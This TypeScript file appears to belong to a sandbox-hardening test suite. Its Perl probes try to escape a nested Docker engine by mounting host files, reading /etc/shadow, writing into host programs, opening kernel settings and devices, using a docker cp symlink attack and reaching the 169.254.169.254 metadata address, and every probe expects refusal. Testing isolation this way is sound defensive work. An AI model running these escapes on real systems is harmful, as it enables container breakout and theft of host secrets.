// attack/table/engine.ts: attempts with nested Docker (`docker: true`), which obeys every request: from containers with every right it can
// give, from builds, and through its files. They use its API, so only perl is needed inside. See attack.ts.
import type { Attack } from './attack.ts';
import { KERNEL_ATTACKS } from './kernel.ts';

const perl = String.raw;

/**
 * `engine` sends a request; `container` runs a program in a container that has the engine's programs, and prints its output. The engine
 * starts at the first request, which takes a while.
 */
const ENGINE = perl`alarm 40;
sub engine { my ($method, $path, $body, $type) = @_; socket(my $s, PF_INET, SOCK_STREAM, 0) or die $!; connect($s, pack_sockaddr_in(2375, inet_aton('127.0.0.1'))) or die "no engine: $!\n"; $body //= ''; my $text = "$method $path HTTP/1.0\r\nHost: docker\r\nContent-Type: " . ($type // 'application/json') . "\r\nContent-Length: " . length($body) . "\r\n\r\n$body"; for (my $at = 0; $at < length $text;) { $at += syswrite($s, $text, length($text) - $at, $at) // die $! } my $said = ''; 1 while sysread $s, $said, 65536, length $said; my ($head, $rest) = split /\r\n\r\n/, $said, 2; return ($head // '') =~ m{^HTTP/1\.\d (\d+)} ? $1 : 0, $rest // '' }
sub quoted { my ($text) = @_; $text =~ s/([^ !#-\[\]-~])/sprintf '\\u%04x', ord $1/ge; return '"' . $text . '"' }
sub entry { my ($name, $type, $to, $text) = @_; $text //= ''; my $head = pack 'a100 a8 a8 a8 a12 a12 a8 a1 a100 a6 a2 x247', $name, '0000755', '0000000', '0000000', sprintf('%011o', length $text), '00000000000', ' ' x 8, $type, $to // '', 'ustar', '00'; substr($head, 148, 8) = sprintf "%06o\0 ", unpack '%32C*', $head; return $head . $text . "\0" x (-length($text) % 512) }
sub image { my $tar = join '', map({ entry("$_/", 5) } qw(usr tmp proc sys dev etc)), map({ -l "/$_" ? entry($_, 2, "usr/$_") : () } qw(bin sbin lib lib64 lib32)), "\0" x 1024; my ($code, $said) = engine('POST', '/images/create?fromSrc=-&repo=probe&tag=1', $tar, 'application/x-tar'); $code == 200 or die "no image: $code $said\n" }
sub container { my ($options, $program) = @_; my $binds = '"/usr:/usr:ro"'; $options =~ s/"Binds":\[/"Binds":[$binds,/ or $options .= ($options eq '' ? '' : ',') . "\"Binds\":[$binds]"; my $text = elsewhere($program);
  my ($code, $said) = engine('POST', '/containers/create', '{"Image":"probe:1","Tty":true,"Entrypoint":["/usr/bin/perl","-e",' . quoted($text) . '],"HostConfig":{' . $options . '}}'); my ($id) = $said =~ /"Id":"([0-9a-f]+)"/; return line("refused $code", 'create') unless $id;
  ($code, $said) = engine('POST', "/containers/$id/start"); if ($code != 204) { line("refused", 'start') } else { ($code, $said) = engine('POST', "/containers/$id/wait"); my ($status) = $said =~ /"StatusCode":(\d+)/; ($code, $said) = engine('GET', "/containers/$id/logs?stdout=1&stderr=1"); $said =~ s/\r//g; print whole($said, 'the container'); line('ended with status ' . ($status // '?'), 'the container') if ($status // '?') ne '0' } engine('DELETE', "/containers/$id?force=1") }
`;
/** Every right that an engine can give. */
const MIGHTY = perl`"CapAdd":["ALL"],"SecurityOpt":["seccomp=unconfined"],"MaskedPaths":[],"ReadonlyPaths":[]`;
export const fromContainer = (options: string, program: string): string =>
  `${ENGINE}container(<<'OPTIONS' =~ s/\\n//gr, <<'OF_THE_CONTAINER');\n${options}\nOPTIONS\n${program}\nOF_THE_CONTAINER\n`;

/** The same attempt as in a sandbox. */
const CRASH = KERNEL_ATTACKS.find(({ id }) => id === 'kernel-crash-handler')?.perl ?? '';

const row = (one: Omit<Attack, 'area' | 'needs'>): Attack => ({ ...one, area: 'engine', needs: 'engine' });

/** Comes first: the engine, an image and a container work. Without it nothing below would prove anything. */
export const ENGINE_CONTROL = row({
  id: 'engine-control',
  references: ['A154'],
  what: 'break nested Docker: it starts, and a container of it runs',
  perl: perl`${ENGINE}image(); container('', q{line($< == 0 ? 'works' : 'not root')})`,
  expect: ['works'],
});

export const ENGINE_ATTACKS: readonly Attack[] = [
  row({
    id: 'engine-others',
    references: ['A154'],
    what: 'find containers, images, volumes or networks of this machine or of another task',
    perl: perl`${ENGINE}my ($code, $said) = engine('GET', '/containers/json?all=1'); line($said =~ /^\[\]\s*$/ ? 'none' : 'some', 'containers'); ($code, $said) = engine('GET', '/images/json?all=1'); my @all = $said =~ /"RepoTags":\["([^"]+)"/g; line("@all" eq 'probe:1' ? 'none' : "@all", 'images'); ($code, $said) = engine('GET', '/volumes'); line($said =~ /"Name"/ ? 'some' : 'none', 'volumes'); ($code, $said) = engine('GET', '/networks'); my @nets = sort $said =~ /"Name":"([^"]+)"/g; line("@nets" eq 'bridge host none' ? 'none' : "@nets", 'networks'); ($code, $said) = engine('GET', '/info'); line($said =~ /"Name":"docker"/ ? 'none' : 'of another machine', 'name')`,
    expect: ['none'],
  }),
  row({
    id: 'engine-privileged',
    references: ['A13', 'A33'],
    what: 'run a privileged container',
    perl: fromContainer(
      '"Privileged":true',
      perl`opendir my $d, '/dev'; print "/dev/$_ = there\n" for grep { -b "/dev/$_" } readdir $d; print "searched\n"`,
    ),
    expect: ['refused', 'searched'],
  }),
  row({
    id: 'engine-host-files',
    references: ['A1', 'A2'],
    what: 'read files of this machine through a volume of /',
    perl: fromContainer(
      '"Binds":["/:/host"]',
      perl`look("/host$_") for $V{SIBLING}, $V{HOST_TMP}, $V{STATE}, $V{HOME}, $V{PROJECT}, qw(/etc/shadow /etc/machine-id /run/systemd /run/dbus /var/lib/containerd /boot)`,
    ),
    expect: ['ENOENT'],
  }),
  row({
    id: 'engine-host-socket',
    references: ['A54', 'A154'],
    what: 'ask the engine of this machine over a socket',
    perl: fromContainer(
      '"Binds":["/run:/hostrun"]',
      perl`for my $path (qw(/hostrun/docker.sock /hostrun/podman/podman.sock /hostrun/containerd/containerd.sock /hostrun/user/1000/docker.sock)) { next unless -e $path; socket(my $s, PF_UNIX, SOCK_STREAM, 0); connect($s, pack_sockaddr_un($path)) or do { line(why(), $path); next }; syswrite $s, "GET /info HTTP/1.0\r\nHost: x\r\n\r\n"; my $said = ''; 1 while sysread $s, $said, 65536, length $said; line($said =~ /"Name":"docker"/ ? 'its own' : 'another', $path) } print "searched\n"`,
    ),
    expect: ['searched', 'its own', 'EACCES', 'ECONNREFUSED'],
  }),
  row({
    id: 'engine-host-programs',
    references: ['A2'],
    what: 'write into programs of this machine, with every right',
    perl: fromContainer(
      `${MIGHTY},"Binds":["/:/host"]`,
      perl`my ($none, $usr) = ('none', '/host/usr'); tried(call('mount', $none, $usr, $none, 0x1020, 0) == 0, 'remount'); for (qw(ags-planted bin/ags-planted)) { sysopen(my $f, "/host/usr/$_", O_WRONLY | O_CREAT) or do { line($!{EROFS} ? 'EROFS' : 'only its owner is missing: ' . why(), $_); next }; line('made', $_) } put('/host/usr/bin/env'); tried(unlink('/host/usr/bin/env'), 'unlink')`,
    ),
    expect: ['EPERM', 'EROFS', 'EACCES'],
  }),
  row({
    id: 'engine-host-network',
    references: ['A42'],
    what: 'reach this machine, private networks or the Internet from the network of the engine',
    perl: fromContainer(
      '"NetworkMode":"host"',
      perl`reach(PF_INET, SOCK_STREAM, 0, pack_sockaddr_in($V{LOOPBACK_PORT}, inet_aton('127.0.0.1')), 'loopback'); reach(PF_INET, SOCK_STREAM, 0, pack_sockaddr_in($V{ANY_PORT}, inet_aton($_)), $_) for split(' ', $V{ADDRESSES}), '172.17.0.1', '100.64.0.1'; reach(PF_INET, SOCK_STREAM, 0, pack_sockaddr_in(443, inet_aton($_)), $_) for qw(1.1.1.1 10.0.0.1 192.168.0.1 169.254.169.254)`,
    ),
    expect: ['ECONNREFUSED', 'ENETUNREACH', 'EHOSTUNREACH'],
  }),
  row({
    id: 'engine-bridge-network',
    references: ['A42', 'A69'],
    what: 'reach this machine, private networks or the Internet from a container, past the gateway',
    perl: fromContainer(
      '',
      perl`reach(PF_INET, SOCK_STREAM, 0, pack_sockaddr_in($V{ANY_PORT}, inet_aton($_)), $_) for split(' ', $V{ADDRESSES}), '172.17.0.1'; reach(PF_INET, SOCK_STREAM, 0, pack_sockaddr_in(443, inet_aton($_)), $_) for qw(1.1.1.1 10.0.0.1 192.168.0.1 169.254.169.254); line(defined gethostbyname('example.com') ? 'resolved' : 'no name', 'name')`,
    ),
    // The kernel does not report every packet that it drops.
    expect: ['ECONNREFUSED', 'ENETUNREACH', 'EHOSTUNREACH', 'no answer', 'no name'],
  }),
  row({
    id: 'engine-gateway',
    references: ['A42', 'A51'],
    what: 'have the gateway lead a container to this machine',
    perl: fromContainer(
      '',
      perl`for my $to ("127.0.0.1:$V{LOOPBACK_PORT}", "localhost:$V{LOOPBACK_PORT}", "loop.$V{DOMAIN}:$V{LOOPBACK_PORT}", '169.254.169.254:80') { socket(my $s, PF_INET, SOCK_STREAM, 0); connect($s, pack_sockaddr_in(3128, inet_aton('100.64.0.1'))) or do { line(why(), $to); next }; syswrite $s, "CONNECT $to HTTP/1.1\r\nHost: $to\r\n\r\n"; sysread $s, my $said, 64; line($said =~ m{^HTTP/1\.\d (\d+)} ? $1 : 'closed', $to) }`,
    ),
    expect: ['403', 'ECONNREFUSED', 'ENETUNREACH', 'closed'],
  }),
  row({
    id: 'engine-host-processes',
    references: ['A153', 'A21'],
    what: 'see or signal processes of this machine, or the helpers of nested Docker',
    perl: perl`${fromContainer(
      `${MIGHTY},"PidMode":"host"`,
      perl`line(-e "/proc/$V{VICTIM}/cmdline" && slurp("/proc/$V{VICTIM}/cmdline") =~ /perl/ ? 'visible' : 'refused', 'victim'); tried(kill(9, 1), 'first')`,
    )}container('"Binds":["/proc:/hostproc"]', <<'OF_THE_CONTAINER');
my $command = slurp("/hostproc/$V{VICTIM}/cmdline") // ''; line(index($command, "\0$V{QUEUE}\0") < 0 ? 'refused' : 'visible', 'among those of the engine')
OF_THE_CONTAINER
`,
    expect: ['refused', 'EPERM', 'ESRCH'],
  }),
  row({
    id: 'engine-holders',
    references: ['A21', 'A142', 'A153'],
    what: 'look into the helpers of nested Docker, or find a secret or a descriptor that leads out in its processes',
    // The first process and its child are the user-namespace helper and the network helper; the engine's own helper is between the latter and
    // the engine.
    perl: fromContainer(
      `${MIGHTY},"Binds":["/proc:/hostproc"]`,
      perl`my (%name, %parent); for my $at (glob '/hostproc/[0-9]*') { my ($pid) = $at =~ /(\d+)$/; my $text = slurp("$at/status") // next; ($name{$pid}) = $text =~ /^Name:\s+(\S+)/m; ($parent{$pid}) = $text =~ /^PPid:\s+(\d+)/m }
my ($porter) = grep { $name{$_} eq 'perl' && $parent{$_} == 1 } keys %name; my ($own) = grep { $name{$_} eq 'perl' && $parent{$_} == ($porter // -1) } keys %name; line(defined $own ? 'searched' : 'not found', 'processes');
for my $pid (1, $porter) { my $at = "/hostproc/$pid"; tried(opendir(my $d, "$at/fd"), "descriptors of $pid"); tried(sysopen(my $m, "$at/mem", O_RDWR), "memory of $pid"); tried(defined readlink "$at/root", "root of $pid") }
my $listed = join ' ', map { slurp("/hostproc/$own/net/$_") // '' } qw(unix tcp tcp6 udp udp6 raw raw6 netlink packet); for my $fd (glob "/hostproc/$own/fd/*") { print "a socket = of another network\n" if (readlink($fd) // '') =~ /^socket:\[(\d+)\]/ && $listed !~ /\b$1\b/ }
my $word = 'CANARY' . '-'; for my $file (glob '/hostproc/[0-9]*/environ /hostproc/[0-9]*/cmdline') { print "$file = a secret\n" if (slurp($file) // '') =~ /$word[0-9a-f]{16}/ }`,
    ),
    expect: ['searched', 'EACCES', 'EPERM'],
  }),
  row({
    id: 'engine-mounts',
    references: ['A2', 'A17'],
    what: 'find a mount around the engine that can be written, or one without a bound, or where the engine met us',
    perl: fromContainer(
      `${MIGHTY},"Binds":["/:/host"]`,
      perl`for (split /\n/, slurp('/proc/self/mountinfo')) { my @f = split / /; my ($at) = $f[4] =~ m{^/host(/.*|)$} or next; $at = '/' if $at eq ''; my ($kind, $options) = m{ - (\S+) \S+ (\S+)$}; my $own = $at =~ m{^/(run|run/tmp|etc/docker)$}; print "$at = without a bound\n" if $own && $options !~ /(^|,)size=/; next if $own || $at =~ m{^/(proc|dev|sys/fs/cgroup|run|var/lib/docker)(/|$)}; print "$at = writable\n" if $f[5] =~ /(^|,)rw(,|$)/ && $options !~ /^ro(,|$)/ } opendir my $met, '/host/ags' or line(why(), 'ags'); print "ags/$_ = there\n" for grep { !/^\.\.?$/ } readdir $met; print "searched\n"`,
    ),
    expect: ['searched'],
  }),
  row({
    id: 'engine-shared-memory',
    references: ['A33', 'A42'],
    what: 'find message queues, shared memory or interfaces of this machine in the places of the engine',
    perl: fromContainer(
      '"Binds":["/dev/shm:/hostshm","/dev/mqueue:/hostqueues","/sys:/hostsys"]',
      perl`look("/hostqueues/$V{QUEUE}", 'queue'); print "$_ = there\n" for glob '/hostshm/*'; for (glob '/hostsys/class/net/*') { print "$_ = there\n" unless m{/(lo|tunl0|sit0|gre0|gretap0|erspan0|ip_vti0|ip6_vti0|ip6tnl0|ip6gre0)$} } print "searched\n"`,
    ),
    expect: ['searched', 'ENOENT'],
  }),
  row({
    id: 'engine-limits',
    references: ['A145', 'A146'],
    what: 'be spared when memory is short, have a program of this machine look at a crash, or see its control groups',
    perl: fromContainer(
      `${MIGHTY},"CgroupnsMode":"host","Binds":["/proc:/hostproc"]`,
      perl`line(slurp('/proc/self/oom_score_adj') >= 800 ? 'before others' : 'like others', 'ended'); sysopen(my $f, '/proc/self/oom_score_adj', O_WRONLY) or line(why(), 'spared'); tried(defined syswrite($f, '-1000'), 'spared'); { ${CRASH} } for (split /\n/, slurp('/hostproc/1/cgroup')) { line((split /:/, $_, 3)[2] eq '/' ? 'own root' : $_, 'group') }`,
    ),
    expect: ['before others', 'EACCES', 'EPERM', 'closed', 'no such program', 'own root'],
  }),
  row({
    id: 'engine-host-namespaces',
    references: ['A33', 'A145'],
    what: 'share namespaces of this machine: IPC, host name, control groups, users',
    perl: perl`${ENGINE}container('${MIGHTY},' . $_, <<'OF_THE_CONTAINER') for qw("IpcMode":"host" "UTSMode":"host" "CgroupnsMode":"host" "UsernsMode":"host");
tried(defined shmget($V{IPC_KEY}, 0, 0), 'memory'); line((POSIX::uname())[1] eq $V{HOSTNAME} ? 'of this machine' : 'own', 'name'); line(slurp('/proc/self/uid_map') =~ /4294967295/ ? 'of this machine' : 'own', 'users')
OF_THE_CONTAINER
`,
    expect: ['ENOENT', 'own', 'refused'],
  }),
  row({
    id: 'engine-devices',
    references: ['A13', 'A15'],
    what: 'make and open devices of this machine, with every right',
    perl: fromContainer(
      `${MIGHTY},"Binds":["/dev:/hostdev"],"DeviceCgroupRules":["a *:* rwm"]`,
      perl`for ([S_IFBLK, 8 * 256], [S_IFBLK, 254 * 256], [S_IFCHR, 1 * 256 + 1], [S_IFCHR, 1 * 256 + 11]) { my $at = '/tmp/node'; tried(call('mknodat', -100, $at, $_->[0] | 0600, $_->[1]) == 0, "make $_->[1]"); unlink $at } for (glob '/hostdev/*') { print "$_ = a disk\n" if -b } get($_) for grep { -e } qw(/hostdev/mem /hostdev/kmsg /hostdev/kvm)`,
    ),
    expect: ['EPERM', 'EACCES', 'refused'],
  }),
  row({
    id: 'engine-kernel-settings',
    references: ['A15', 'CVE-2022-0492'],
    what: 'open settings and the memory of the kernel, with every right',
    perl: fromContainer(
      `${MIGHTY},"Binds":["/proc:/hostproc"]`,
      perl`for my $proc ('/proc', '/hostproc') { put("$proc/$_") for grep { -e "$proc/$_" } qw(sys/kernel/core_pattern sys/kernel/modprobe sys/kernel/sysrq sysrq-trigger sys/vm/drop_caches sys/fs/suid_dumpable sys/fs/binfmt_misc/register); get("$proc/$_") for grep { -e "$proc/$_" } qw(kcore kmsg) }`,
    ),
    expect: ['EROFS', 'EACCES', 'EPERM'],
  }),
  row({
    id: 'engine-kernel-calls',
    references: ['A33', 'A34'],
    what: 'act on the machine from a container with every right: modules, clock, log, BPF, handles, restart',
    perl: fromContainer(
      MIGHTY,
      perl`my $text = "\0" x 64; tried(call('init_module', $text, 0, $text) == 0, 'module'); tried(call('settimeofday', $text, 0) == 0, 'clock'); tried(call('syslog', 3, $text, 10) >= 0, 'log'); tried(call('bpf', 0, $text, 64) >= 0, 'bpf'); tried(call('perf_event_open', $text, -1, 0, -1, 0) >= 0, 'perf'); my $handle = pack('Ii', 8, 1) . pack('II', 2, 0) . "\0" x 120; tried(call('open_by_handle_at', -100, $handle, 0) >= 0, 'handle'); tried(call('reboot', 0, 0, 0, 0) == 0, 'restart'); tried(call('swapon', $text, 0) == 0, 'swap'); tried(call('kexec_load', 0, 0, 0, 0) == 0, 'kernel'); tried(call('io_uring_setup', 1, $text) >= 0, 'ring'); for ([40, 'hypervisor'], [38, 'ciphers'], [17, 'packets'], [15, 'keys'], [29, 'cars']) { tried(socket(my $v, $_->[0], $_->[0] == 38 ? SOCK_SEQPACKET : $_->[0] == 40 ? SOCK_STREAM : SOCK_RAW, $_->[0] == 15 ? 2 : 0), $_->[1]) }`,
    ),
    expect: ['EPERM', 'ENOSYS', 'EAFNOSUPPORT', 'EINVAL', 'ESTALE', 'EBADF'],
  }),
  row({
    id: 'engine-copy-out',
    references: ['A11', 'CVE-2018-15664'],
    what: 'have the engine read files of this machine by links in a container (docker cp)',
    perl: perl`${ENGINE}my ($code, $said) = engine('POST', '/containers/create', '{"Image":"probe:1","Entrypoint":["/usr/bin/perl"],"HostConfig":{"Binds":["/usr:/usr:ro"]}}'); my ($id) = $said =~ /"Id":"([0-9a-f]+)"/ or die "no container: $said"; my %to = ('link-1' => $V{HOST_TMP}, 'link-2' => "$V{SIBLING}/private.txt", 'link-3' => '/etc/shadow', 'link-4' => '../../../../../../../..' . $V{HOST_TMP}); my $tar = join('', map { entry($_, 2, $to{$_}) } sort keys %to) . "\0" x 1024; ($code, $said) = engine('PUT', "/containers/$id/archive?path=/tmp", $tar, 'application/x-tar'); line($code == 200 ? 'put' : "refused $code", 'links'); for my $name (sort keys %to) { ($code, $said) = engine('GET', "/containers/$id/archive?path=/tmp/$name/."); line($said =~ /CANARY-|root:/ ? 'read' : $code, $name) } engine('DELETE', "/containers/$id?force=1")`,
    expect: ['put', '404', '400', '500'],
  }),
  row({
    id: 'engine-build-network',
    references: ['A42', 'A51'],
    what: 'reach this machine or the Internet from the steps of a build, or have the engine fetch from there',
    perl: perl`${ENGINE}my $build = sub { my ($label, $step) = @_; my $file = "FROM probe:1\n$step\n"; my ($code, $said) = engine('POST', '/build?networkmode=host&nocache=1', entry('Dockerfile', 0, '', $file) . "\0" x 1024, 'application/x-tar'); line($said =~ /CANARY-|Successfully built/ ? 'built' : $said =~ /error|refused|unreachable|denied/i ? 'failed' : "answered $code", $label) }; $build->("fetch $_", "ADD http://$_/x /x") for "127.0.0.1:$V{LOOPBACK_PORT}", '169.254.169.254', '100.64.0.1:5000', map { "$_:$V{ANY_PORT}" } split ' ', $V{ADDRESSES}`,
    expect: ['failed'],
  }),
];
